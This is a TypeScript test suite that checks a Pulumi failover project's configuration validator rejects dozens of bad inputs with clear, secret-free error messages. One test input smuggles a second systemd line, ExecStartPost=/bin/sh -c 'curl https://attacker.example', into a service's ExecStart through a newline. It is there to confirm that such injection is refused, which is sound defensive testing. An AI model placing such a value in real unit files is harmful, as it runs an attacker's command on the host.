import { strict as assert } from "node:assert";
import { describe, it } from "node:test";
import {
    ADMIN_PUBLIC_KEY,
    adoptedPrimaryOptions,
    amd64Binary,
    arm64Binary,
    existingStandbyOptions,
    primaryOptions,
    PRIMARY_HOST_KEY,
    standbyOptions,
    tenantOptions,
} from "./fixtures";
import { configErrorOf, RunOptions } from "./harness";

interface BadInput {
    name: string;
    options: RunOptions;
    /** The key, the bad value and the fix, as the operator reads them. */
    expect: RegExp[];
}

const host = (extra: Record<string, unknown>) => ({ host: "203.0.113.10", hostKey: PRIMARY_HOST_KEY, ...extra });
const hetzner = (extra: Record<string, unknown>) => ({ provider: "hetzner", hetzner: { sshPublicKey: ADMIN_PUBLIC_KEY, ...extra } });
const secretsUnmarked = (options: RunOptions, key: string): RunOptions => ({
    ...options,
    secretKeys: (options.secretKeys ?? []).filter((k) => k !== key && `wirebot:${k}` !== key),
});

/** The standby stack's options with the primary stack's output naming the primary by `address`. */
function withPrimaryHost(options: RunOptions, address: string): RunOptions {
    const key = "organization/wirebot-failover/primary";
    const primary = options.stackOutputs![key] as Record<string, Record<string, unknown>>;
    options.stackOutputs![key] = { ...primary, primaryHost: { ...primary.primaryHost, host: address } };
    return options;
}

const cases: BadInput[] = [
    {
        name: "active side neither primary nor standby",
        options: adoptedPrimaryOptions({ activeSide: "secondary" }),
        expect: [/wirebot:activeSide: bad value "secondary": must be primary or standby; fix with: pulumi config set wirebot:activeSide/],
    },
    {
        name: "malformed hostname",
        options: adoptedPrimaryOptions({ routes: [{ hostname: "helm_wirebot", service: "gateway" }] }),
        expect: [/wirebot:routes\[0\]\.hostname: bad value "helm_wirebot": must be a lower-case DNS name/, /pulumi config set --path wirebot:routes\[0\]\.hostname/],
    },
    {
        name: "upper-case hostname",
        options: adoptedPrimaryOptions({ tenantHostnames: ["AI.Client.com"] }),
        expect: [/wirebot:tenantHostnames\[0\]: bad value "AI.Client.com": must be a lower-case DNS name/],
    },
    {
        name: "duplicate hostnames across routes and tenants",
        options: adoptedPrimaryOptions({ tenantHostnames: ["helm.wirebot.chat"] }),
        expect: [/wirebot:routes\/tenantHostnames: bad value "helm.wirebot.chat": the hostname is listed twice; keep one entry per hostname/],
    },
    {
        name: "route to an unknown service",
        options: adoptedPrimaryOptions({ routes: [{ hostname: "helm.wirebot.chat", service: "letta" }] }),
        expect: [/wirebot:routes\[0\]\.service: bad value "letta": must be gateway or scoreboard/],
    },
    {
        name: "SSH port out of range",
        options: adoptedPrimaryOptions({ primary: host({ port: 70000 }) }),
        expect: [/wirebot:primary\.port: bad value 70000: must be a TCP port between 1 and 65535/],
    },
    {
        name: "service port out of range",
        options: adoptedPrimaryOptions({ services: { gateway: { port: 0 } } }),
        expect: [/wirebot:services\.gateway\.port: bad value 0/],
    },
    {
        name: "unknown service name",
        options: adoptedPrimaryOptions({ services: { grafana: { enabled: true } } }),
        expect: [/wirebot:services\.grafana: bad value "grafana": is not a known service; use one of gateway, scoreboard, mem0, memory-syncd, letta/],
    },
    {
        name: "relative database path",
        options: adoptedPrimaryOptions({ paths: { databases: ["data/events.db"] } }),
        expect: [/wirebot:paths\.databases\[0\]: bad value "data\/events.db": must be an absolute path/],
    },
    {
        name: "'..' in a path",
        options: adoptedPrimaryOptions({ paths: { dataRoot: "/data/../etc" } }),
        expect: [/wirebot:paths\.dataRoot: bad value "\/data\/..\/etc": must not contain '..' segments/],
    },
    {
        name: "replica directory over the live data",
        options: adoptedPrimaryOptions({ paths: { replicaDir: "/data/wirebot/replica" } }),
        expect: [/wirebot:paths\.replicaDir: bad value "\/data\/wirebot\/replica": it overlaps the live path \/data\/wirebot; a replica must never share a path with a live database/],
    },
    {
        name: "relative ExecStart",
        options: adoptedPrimaryOptions({ services: { gateway: { execStart: "openclaw gateway" } } }),
        expect: [/wirebot:services\.gateway\.execStart: bad value "openclaw gateway": must start with the absolute path of the program/],
    },
    {
        name: "ExecStart with a newline, which would add lines to the unit file",
        options: adoptedPrimaryOptions({ services: { gateway: { execStart: "/usr/bin/openclaw gateway\nExecStartPost=/bin/sh -c 'curl https://attacker.example'" } } }),
        expect: [/wirebot:services\.gateway\.execStart: bad value "\/usr\/bin\/openclaw gateway\\nExecStartPost=.*": must be one line without control characters: a newline would start lines of its own in the unit file; put a longer command in a script and give the script's path; fix with: pulumi config set --path wirebot:services\.gateway\.execStart/],
    },
    {
        name: "ExecStart ending in a backslash, which would join the next unit line",
        options: adoptedPrimaryOptions({ services: { scoreboard: { execStart: "/data/wirebot/bin/wirebot-scoreboard \\" } } }),
        expect: [/wirebot:services\.scoreboard\.execStart: bad value ".*\\\\": must not end in a backslash, which would join the unit file's next line to the command/],
    },
    {
        name: "path with ':', which splits rsync and Litestream targets",
        options: adoptedPrimaryOptions({ paths: { databases: ["/data/wirebot/scoreboard/events:v2.db"] } }),
        expect: [/wirebot:paths\.databases\[0\]: bad value "\/data\/wirebot\/scoreboard\/events:v2\.db": holds ":"; a path may hold only letters, digits and \. _ - \+ @ \/ .*; rename the directory, or link it from such a path; fix with: pulumi config set --path wirebot:paths\.databases\[0\]/],
    },
    {
        name: "path with '=' and a space",
        options: adoptedPrimaryOptions({ paths: { workspace: "/home/wirebot/x=y z" } }),
        expect: [/wirebot:paths\.workspace: bad value "\/home\/wirebot\/x=y z": holds "=", " "; a path may hold only/],
    },
    {
        name: "path with glob characters",
        options: adoptedPrimaryOptions({ paths: { fileSync: ["/data/wirebot/users/*", "/data/wirebot/discovery/[ab]?"] } }),
        expect: [/wirebot:paths\.fileSync\[0\]: bad value "\/data\/wirebot\/users\/\*": holds "\*"/, /wirebot:paths\.fileSync\[1\]: bad value "\/data\/wirebot\/discovery\/\[ab\]\?": holds "\[", "\]", "\?"/],
    },
    {
        name: "path with a systemd specifier",
        options: adoptedPrimaryOptions({ services: { gateway: { workingDirectory: "/home/%u/gateway" } } }),
        expect: [/wirebot:services\.gateway\.workingDirectory: bad value "\/home\/%u\/gateway": holds "%"; a path may hold only/],
    },
    {
        name: "IPv6 address of the primary",
        options: adoptedPrimaryOptions({ primary: host({ host: "2001:db8::10" }) }),
        expect: [/wirebot:primary\.host: bad value "2001:db8::10": is an IPv6 address, which the agents' URLs and the rsync and Litestream \(SFTP\) targets would need in brackets and do not get; give the host's IPv4 address, or a DNS name \(one with only an AAAA record is fine\); fix with: pulumi config set --path wirebot:primary\.host/],
    },
    {
        name: "IPv6 address of an existing standby",
        options: existingStandbyOptions({ standby: { provider: "existing", existing: { host: "2001:db8::11", hostKey: PRIMARY_HOST_KEY } } }),
        expect: [/wirebot:standby\.existing\.host: bad value "2001:db8::11": is an IPv6 address/],
    },
    {
        name: "host key that is not an OpenSSH public key",
        options: adoptedPrimaryOptions({ primary: host({ hostKey: "AAAAC3Nza" }) }),
        expect: [/wirebot:primary\.hostKey: bad value "AAAAC3Nza": must be an OpenSSH public key line .*ssh-keyscan/],
    },
    {
        name: "missing primary host key",
        options: adoptedPrimaryOptions({ primary: { host: "203.0.113.10" } }),
        expect: [/wirebot:primary\.hostKey: missing; set it with: pulumi config set --path wirebot:primary\.hostKey/],
    },
    {
        name: "missing SSH private key",
        options: adoptedPrimaryOptions({ primarySshKey: undefined }),
        expect: [/wirebot:primarySshKey: missing; .*pulumi config set --secret wirebot:primarySshKey/],
    },
    {
        name: "SSH private key stored in plain text",
        options: secretsUnmarked(adoptedPrimaryOptions(), "wirebot:primarySshKey"),
        expect: [/wirebot:primarySshKey: stored in plain text; it is a secret\. Store it encrypted with: pulumi config set --secret/],
    },
    {
        name: "missing tunnel credentials when adopting",
        options: adoptedPrimaryOptions({ tunnelCredentials: undefined }),
        expect: [/wirebot:tunnelCredentials: missing while wirebot:tunnel\.mode is adopt; set the tunnel's credentials JSON with: pulumi config set --secret/],
    },
    {
        name: "malformed tunnel credentials, without echoing the secret",
        options: adoptedPrimaryOptions({ tunnelCredentials: JSON.stringify({ AccountTag: "x", TunnelSecret: "c2hvcnQ=", TunnelID: "nope" }) }),
        expect: [/wirebot:tunnelCredentials: bad value \[secret\]: malformed tunnel credentials \(AccountTag must be .*TunnelSecret must be base64 of at least 32 bytes.*TunnelID must be the tunnel's UUID\)/],
    },
    {
        name: "tunnel credentials that are not JSON",
        options: adoptedPrimaryOptions({ tunnelCredentials: "not json" }),
        expect: [/wirebot:tunnelCredentials: bad value \[secret\]: malformed tunnel credentials/],
    },
    {
        name: "unknown tunnel mode",
        options: adoptedPrimaryOptions({ tunnel: { mode: "import" } }),
        expect: [/wirebot:tunnel\.mode: .*mode must be create \(a new tunnel\) or adopt/],
    },
    {
        name: "created tunnel without a Cloudflare token",
        options: primaryOptions({ "cloudflare:apiToken": undefined }),
        expect: [/cloudflare:apiToken: missing; the Cloudflare API token is needed\. Set it with: pulumi config set --secret cloudflare:apiToken/],
    },
    {
        name: "managed DNS without a zone",
        options: primaryOptions({ tunnel: { mode: "create", accountId: "0123456789abcdef0123456789abcdef" } }),
        expect: [/wirebot:tunnel\.zoneId: missing while manageDns is true/],
    },
    {
        name: "hostnames routed to a disabled service",
        options: primaryOptions({ services: { scoreboard: { enabled: false } } }),
        expect: [
            /wirebot:routes\[1\]\.service: bad value "scoreboard": services\.scoreboard is disabled, so wins\.wirebot\.chat would reach nothing; fix with: pulumi config set --path wirebot:services\.scoreboard\.enabled true/,
            /wirebot:routes\[2\]\.service: bad value "scoreboard": services\.scoreboard is disabled, so api\.wirebot\.chat would reach nothing/,
        ],
    },
    {
        name: "client hostnames while the gateway is disabled",
        options: primaryOptions({ services: { gateway: { enabled: false } }, routes: [{ hostname: "wins.wirebot.chat", service: "scoreboard" }] }),
        expect: [/wirebot:tenantHostnames: bad value \["ai\.clientbiz\.com"\]: client hostnames are routed to the gateway, and services\.gateway is disabled; fix with: pulumi config set --path wirebot:services\.gateway\.enabled true/],
    },
    {
        name: "gateway command line listening on another port than configured",
        options: primaryOptions({ services: { gateway: { port: 18800, execStart: "/usr/bin/openclaw gateway --port 18789" } } }),
        expect: [/wirebot:services\.gateway\.execStart: bad value "\/usr\/bin\/openclaw gateway --port 18789": it listens on port 18789, but services\.gateway\.port is 18800, where the tunnel and the fire drill go; fix with: pulumi config set --path wirebot:services\.gateway\.port 18789/],
    },
    {
        name: "misspelt key",
        options: adoptedPrimaryOptions({ primary: host({ hostkey: "x" }) }),
        expect: [/wirebot:primary: unknown key\(s\) hostkey; remove them or check the spelling/],
    },
    {
        name: "connector binary built for the wrong architecture",
        options: adoptedPrimaryOptions({ binaries: { cloudflared: { amd64: { path: arm64Binary } } } }),
        expect: [/wirebot:binaries\.cloudflared\.amd64\.path: bad value ".*tool-arm64": the file is arm64 but the primary runs amd64; give a linux-amd64 build/],
    },
    {
        name: "binary path that does not exist",
        options: adoptedPrimaryOptions({ binaries: { cloudflared: { amd64: { path: "/nonexistent/cloudflared" } } } }),
        expect: [/wirebot:binaries\.cloudflared\.amd64\.path: bad value "\/nonexistent\/cloudflared": no such file on this machine/],
    },
    {
        name: "binary URL without a valid sha256",
        options: adoptedPrimaryOptions({ binaries: { cloudflared: { amd64: { url: "https://example.com/cloudflared-linux-amd64", sha256: "abc" } } } }),
        expect: [/wirebot:binaries\.cloudflared\.amd64\.sha256: bad value "abc": must be 64 lower-case hex digits/],
    },
    {
        name: "binary URL over plain http",
        options: adoptedPrimaryOptions({ binaries: { cloudflared: { amd64: { url: "http://example.com/cloudflared", sha256: "a".repeat(64) } } } }),
        expect: [/wirebot:binaries\.cloudflared\.amd64(\.url)?: bad value/],
    },
    {
        name: "CAX (arm64) server with only amd64 binaries",
        options: standbyOptions({ standby: hetzner({ serverType: "cax11", location: "fsn1" }), binaries: { litestream: { amd64: { path: amd64Binary } }, cloudflared: { amd64: { path: amd64Binary } } } }),
        expect: [
            /wirebot:binaries\.cloudflared\.arm64: missing; the standby runs arm64 and needs a cloudflared built for it/,
            /wirebot:binaries\.litestream\.arm64: missing; the standby runs arm64/,
        ],
    },
    {
        name: "arm64 standby given an amd64 URL",
        options: standbyOptions({
            standby: hetzner({ serverType: "cax11", location: "fsn1" }),
            binaries: {
                litestream: { amd64: { path: amd64Binary }, arm64: { path: arm64Binary } },
                cloudflared: { arm64: { url: "https://example.com/cloudflared-linux-amd64", sha256: "a".repeat(64) } },
            },
        }),
        expect: [/wirebot:binaries\.cloudflared\.arm64\.url: bad value "https:\/\/example.com\/cloudflared-linux-amd64": the URL names another architecture but the standby runs arm64/],
    },
    {
        name: "unknown Hetzner server family",
        options: standbyOptions({ standby: hetzner({ serverType: "xyz1" }) }),
        expect: [/wirebot:standby\.hetzner\.serverType: bad value "xyz1": unknown server family; use a cx\/cpx\/ccx \(amd64\) type, or a cax \(arm64\) type in an EU location; fix with: pulumi config set --path wirebot:standby\.hetzner\.serverType cpx11/],
    },
    {
        name: "bad admin CIDR",
        options: standbyOptions({ standby: hetzner({ adminCidrs: ["300.1.2.3/32"] }) }),
        expect: [/wirebot:standby\.hetzner\.adminCidrs\[0\]: bad value "300.1.2.3\/32": must be a CIDR block such as 203.0.113.7\/32/],
    },
    {
        name: "CIDR without a prefix length",
        options: standbyOptions({ standby: hetzner({ adminCidrs: ["192.0.2.1"] }) }),
        expect: [/wirebot:standby\.hetzner\.adminCidrs\[0\]: bad value "192.0.2.1": must be a CIDR block/],
    },
    {
        name: "unknown standby provider",
        options: standbyOptions({ standby: { provider: "aws" } }),
        expect: [/wirebot:standby\.provider: .*provider must be hetzner \(create a server\) or existing/],
    },
    {
        name: "Hetzner standby without an hcloud token",
        options: standbyOptions({ "hcloud:token": undefined }),
        expect: [/hcloud:token: missing; the Hetzner Cloud API token is needed/],
    },
    {
        name: "heartbeat interval too short",
        options: existingStandbyOptions({ agent: { heartbeatIntervalSeconds: 0 } }),
        expect: [/wirebot:agent\.heartbeatIntervalSeconds: bad value 0: must be between 1 and 60 seconds/],
    },
    {
        name: "heartbeat interval too long",
        options: existingStandbyOptions({ agent: { heartbeatIntervalSeconds: 120 } }),
        expect: [/wirebot:agent\.heartbeatIntervalSeconds: bad value 120: must be between 1 and 60 seconds/],
    },
    {
        name: "short heartbeat token",
        options: existingStandbyOptions({ heartbeatToken: "short" }),
        expect: [/wirebot:heartbeatToken: bad value \[secret\]: must be at least 32 characters/],
    },
    {
        name: "alert webhook that is not a URL",
        options: existingStandbyOptions({ alertWebhookUrl: "discord" }),
        expect: [/wirebot:alertWebhookUrl: bad value \[secret\]: must be an http\(s\) webhook URL/],
    },
    {
        name: "drill event in a database the primary does not replicate",
        options: existingStandbyOptions({ agent: { drill: { event: { database: "/srv/scoreboard/events.db" } } } }),
        expect: [
            /wirebot:agent\.drill\.event\.database: bad value "\/srv\/scoreboard\/events\.db": the primary stack does not replicate it \(paths\.databases: .*\/data\/wirebot\/scoreboard\/events\.db.*; tenantsDir: \/data\/wirebot\/scoreboard\/tenants\)/,
            /fix with: pulumi config set --path wirebot:agent\.drill\.event\.database <the scoreboard's database from paths\.databases>, or pulumi config set --path wirebot:agent\.drill\.event false/,
        ],
    },
    {
        name: "Litestream sync interval without a unit",
        options: existingStandbyOptions({ litestream: { syncInterval: "1" } }),
        expect: [/wirebot:litestream\.syncInterval: bad value "1": must be a duration such as 1s/],
    },
    {
        name: "link interface name that is no interface name",
        options: existingStandbyOptions({ link: { interface: "wirebot-link-to-standby" } }),
        expect: [/wirebot:link\.interface: bad value "wirebot-link-to-standby": must be a network interface name: 1 to 15 lower-case letters, digits, _ or -, starting with a letter, such as wirebot; fix with: pulumi config set --path wirebot:link\.interface/],
    },
    {
        name: "link on the loopback interface",
        options: existingStandbyOptions({ link: { interface: "lo" } }),
        expect: [/wirebot:link\.interface: bad value "lo": is the loopback interface; pick a name no interface uses/],
    },
    {
        name: "link UDP port out of range",
        options: existingStandbyOptions({ link: { port: 0 } }),
        expect: [/wirebot:link\.port: bad value 0: must be a UDP port between 1 and 65535; fix with: pulumi config set --path wirebot:link\.port/],
    },
    {
        name: "link subnet that is not a subnet",
        options: existingStandbyOptions({ link: { subnet: "10.119.98.1" } }),
        expect: [/wirebot:link\.subnet: bad value "10\.119\.98\.1": must be an IPv4 subnet in CIDR notation such as 10\.119\.98\.0\/30/],
    },
    {
        name: "link subnet narrower than a /30",
        options: existingStandbyOptions({ link: { subnet: "10.119.98.0/31" } }),
        expect: [/wirebot:link\.subnet: bad value "10\.119\.98\.0\/31": must be a \/30 or wider: the link needs two host addresses in it/],
    },
    {
        name: "link subnet with host bits set",
        options: existingStandbyOptions({ link: { subnet: "10.119.98.5/30" } }),
        expect: [/wirebot:link\.subnet: bad value "10\.119\.98\.5\/30": has host bits set; its network address is 10\.119\.98\.4\/30: give that/],
    },
    {
        name: "link subnet in public address space",
        options: existingStandbyOptions({ link: { subnet: "100.64.0.0/30" } }),
        expect: [/wirebot:link\.subnet: bad value "100\.64\.0\.0\/30": must lie inside a private range \(10\.0\.0\.0\/8, 172\.16\.0\.0\/12 or 192\.168\.0\.0\/16\)/],
    },
    {
        name: "link subnet overlapping an existing standby's public address",
        options: existingStandbyOptions({ link: { subnet: "10.77.0.0/24" } }),
        expect: [
            /wirebot:link\.subnet: bad value "10\.77\.0\.0\/24": it overlaps the standby's address 10\.77\.0\.11; the link needs a private subnet no host uses/,
            /Fix with: pulumi config set --path wirebot:link\.subnet 10\.119\.98\.0\/30$/m,
        ],
    },
    {
        name: "link subnet overlapping the primary's address, read from the primary stack",
        options: withPrimaryHost(existingStandbyOptions(), "10.119.98.1"),
        expect: [/wirebot:link\.subnet: bad value "10\.119\.98\.0\/30": it overlaps the primary's address 10\.119\.98\.1; .*Fix with: pulumi config set --path wirebot:link\.subnet 10\.223\.41\.0\/30/],
    },
    {
        name: "link subnet overlapping the admins' addresses on Hetzner",
        options: standbyOptions({ standby: hetzner({ adminCidrs: ["192.168.0.0/16"] }), link: { subnet: "192.168.219.0/30" } }),
        expect: [/wirebot:link\.subnet: bad value "192\.168\.219\.0\/30": it overlaps standby\.hetzner\.adminCidrs 192\.168\.0\.0\/16;/],
    },
    {
        name: "existing standby known by name only, without the link's source addresses",
        options: existingStandbyOptions({ standby: { provider: "existing", existing: { host: "standby.example.org", hostKey: PRIMARY_HOST_KEY } } }),
        expect: [/wirebot:link\.standbyCidrs: missing; the standby is reached as "standby\.example\.org", a name the primary's firewall rule for the link cannot use\. Set the public addresses the standby's WireGuard packets come from: pulumi config set --path 'wirebot:link\.standbyCidrs\[0\]' /],
    },
    {
        name: "primary known by name only, with an existing standby, without the link's source addresses",
        options: withPrimaryHost(existingStandbyOptions(), "hub.example.org"),
        expect: [/wirebot:link\.primaryCidrs: missing; the primary is reached as "hub\.example\.org", a name the standby's firewall rule for the link cannot use\. Set the public addresses the primary's WireGuard packets come from: pulumi config set --path 'wirebot:link\.primaryCidrs\[0\]' /],
    },
    {
        name: "unknown link key",
        options: existingStandbyOptions({ link: { listenPort: 51820 } }),
        expect: [/wirebot:link: unknown key\(s\) listenPort; remove them or check the spelling/],
    },
    {
        name: "more tenant databases than the standby's sshd is sized for",
        options: existingStandbyOptions({ litestream: { maxTenants: 5000 } }),
        expect: [/wirebot:litestream\.maxTenants: bad value 5000: must be between 0 and 2000 tenant databases/],
    },
    {
        name: "bad tenant id in the stack name",
        options: tenantOptions(),
        expect: [/wirebot:tenantId: bad value "Bad_Tenant": must be 2-32 lower-case letters, digits or dashes/],
    },
    {
        name: "tenant without hostnames",
        options: tenantOptions({ hostnames: [] }),
        expect: [/wirebot:hostnames: bad value \[\]: must list at least one hostname for the tenant/],
    },
    {
        name: "tenant secrets that are not an object of names",
        options: tenantOptions({ tenantSecrets: JSON.stringify({ "lower-case": "x" }) }),
        expect: [/wirebot:tenantSecrets: bad value \[secret\]: must be a JSON object of UPPER_CASE names to string values/],
    },
    {
        name: "stack name that is no role",
        options: { ...adoptedPrimaryOptions(), stack: "production" },
        expect: [/wirebot:role: 'production' is not a stack role; name the stack primary, standby or tenant-<id>/],
    },
];
cases.find((c) => c.name === "bad tenant id in the stack name")!.options.stack = "tenant-Bad_Tenant";

describe("bad configuration is refused before any resource is registered", () => {
    it(`covers at least 20 bad inputs (has ${cases.length})`, () => {
        assert.ok(cases.length >= 20);
    });
    for (const c of cases) {
        it(c.name, async () => {
            const message = await configErrorOf(c.options);
            for (const pattern of c.expect) assert.match(message, pattern);
        });
    }

    it("never echoes a secret value in an error", async () => {
        const secret = JSON.stringify({ AccountTag: "x", TunnelSecret: "SUPERSECRETVALUE", TunnelID: "nope" });
        const message = await configErrorOf(adoptedPrimaryOptions({ tunnelCredentials: secret }));
        assert.ok(!message.includes("SUPERSECRETVALUE"));
    });

    it("reports every problem at once, one line each", async () => {
        const message = await configErrorOf(adoptedPrimaryOptions({ activeSide: "both", primary: host({ port: -1 }), primarySshKey: undefined }));
        const lines = message.split("\n").slice(1);
        assert.equal(lines.length, 3, message);
    });
});
